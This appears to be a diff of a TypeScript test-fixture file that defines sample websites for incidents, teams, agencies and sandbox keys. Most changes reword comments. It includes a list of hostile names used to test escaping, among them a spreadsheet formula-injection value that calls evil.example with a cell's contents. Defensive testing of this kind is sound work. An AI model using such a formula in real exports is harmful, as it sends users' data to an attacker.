@@ -2,7 +2,7 @@ import { createDraw } from '../data/random.ts';
 import type { Incident } from '../data/site.ts';
 import type { SiteSketch } from './demo-sites.ts';
 
-/** One website for each kind of incident, so that a reader of the data can be shown what it must not be fooled by. */
+/** One website per kind of incident, to test that no client misreads them. */
 export const EVENTFUL_SITES: readonly SiteSketch[] = [
   withIncidents('Launchpad Coffee', 'launchpad-coffee.example', {
     kind: 'launch',
@@ -39,7 +39,7 @@ function withIncidents(name: string, domain: string, incident: Incident): SiteSk
   };
 }
 
-/** Names that do harm where they are pasted unescaped: what each is aimed at, and the name. */
+/** Names that attack a reader that does not escape them, by target. */
 export const HOSTILE_NAMES = {
   formula: '=1+1',
   formulaLink: '=IMPORTXML("http://evil.example/?"&A1,"//a")',
@@ -71,7 +71,7 @@ export const HOSTILE_NAMES = {
   long: 'A very long name '.repeat(30).trim(),
 } as const;
 
-/** A team whose names, competitors and topics attack whatever shows them. */
+/** A team whose names, competitors and topics are hostile. */
 export const HOSTILE_SITES: readonly SiteSketch[] = Object.entries(HOSTILE_NAMES).map(
   ([aim, name], index, all) => {
     const competitor = all[(index + 1) % all.length]?.[1] ?? name;
@@ -90,7 +90,6 @@ export const HOSTILE_SITES: readonly SiteSketch[] = Object.entries(HOSTILE_NAMES
   },
 );
 
-/** A team of one. */
 export const ONE_SITE: readonly SiteSketch[] = [
   {
     name: 'Lone Pine Carpentry',
@@ -109,7 +108,7 @@ export const ONE_SITE: readonly SiteSketch[] = [
 const TRADES = ['Bakery', 'Bicycles', 'Dental Care', 'Flowers', 'Garage', 'Law Office', 'Opticians'] as const;
 const TOWNS = ['Alder', 'Birch', 'Cedar', 'Dogwood', 'Elm', 'Fir', 'Ginkgo', 'Hazel'] as const;
 
-/** A team of so many websites, as an agency has; each with a level of its own. */
+/** A large team, for example an agency. */
 export function createManySites(count: number): readonly SiteSketch[] {
   return Array.from({ length: count }, (_, index) => {
     const next = createDraw('many', index);
@@ -131,7 +130,7 @@ export function createManySites(count: number): readonly SiteSketch[] {
   });
 }
 
-/** A second team, so that "not in the caller's team" can be tried. */
+/** A second team, to test access to another team's website. */
 export const OTHER_TEAM_SITES: readonly SiteSketch[] = [
   {
     name: 'Lumen Bicycles',
@@ -150,7 +149,7 @@ export const OTHER_TEAM_SITES: readonly SiteSketch[] = [
   },
 ];
 
-/** Form 1's sandbox dataset: what the team's test keys read instead of live data (specification §5). */
+/** Form 1's sandbox data set for test keys (specification §5). */
 export const TEST_DATA_SITES: readonly SiteSketch[] = [
   {
     name: 'Sample Store',
